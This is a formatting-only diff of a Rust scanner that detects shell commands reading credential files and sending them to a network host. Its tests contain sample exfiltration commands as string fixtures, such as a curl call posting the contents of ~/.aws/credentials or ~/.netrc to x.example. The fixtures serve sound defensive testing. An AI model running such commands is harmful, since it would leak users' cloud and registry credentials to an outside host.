@@ -198,8 +198,7 @@ fn store_sent(b: &Bundle<'_>, f: &File<'_>) -> Option<Finding> {
                 || at_credential(l)
                 || query_concat(l)
         };
-        let Some(k) = (s..end)
-            .find(|&k| sink_on(&low[k]) || (k == s && sends_here(&low[k])))
+        let Some(k) = (s..end).find(|&k| sink_on(&low[k]) || (k == s && sends_here(&low[k])))
         else {
             continue;
         };
@@ -341,8 +340,10 @@ fn sink_on(l: &str) -> bool {
 fn file_test(before: &str) -> bool {
     let b = before.trim_end();
     ["[", "[[", "!", "test", "("].iter().any(|t| {
-        b.strip_suffix(t)
-            .is_some_and(|r| r.is_empty() || r.ends_with(|c: char| c.is_whitespace() || c == ';' || c == '&' || c == '|'))
+        b.strip_suffix(t).is_some_and(|r| {
+            r.is_empty()
+                || r.ends_with(|c: char| c.is_whitespace() || c == ';' || c == '&' || c == '|')
+        })
     })
 }
 
@@ -438,7 +439,9 @@ mod tests {
         assert!(!reads_credential("cat > /tmp/w/.netrc <<'x'"));
         assert!(!only_written("cat ~/.npmrc > /tmp/copy"));
         assert!(reads_credential("cat ~/.npmrc > /tmp/copy"));
-        assert!(!only_written("curl -f @~/.netrc https://x.example/u > /tmp/out"));
+        assert!(!only_written(
+            "curl -f @~/.netrc https://x.example/u > /tmp/out"
+        ));
     }
 
     #[test]
@@ -447,6 +450,8 @@ mod tests {
         assert!(!sink_on("[[ -d '/tmp/w' ]] && echo ok"));
         assert!(!sink_on("test -d \"$out\" || mkdir \"$out\""));
         assert!(sink_on("curl -s -d \"t=$t\" https://x.example/in"));
-        assert!(sink_on("[ -d ~/.aws ] && curl -s -d \"$(cat ~/.aws/credentials)\" https://x.example/in"));
+        assert!(sink_on(
+            "[ -d ~/.aws ] && curl -s -d \"$(cat ~/.aws/credentials)\" https://x.example/in"
+        ));
     }
 }
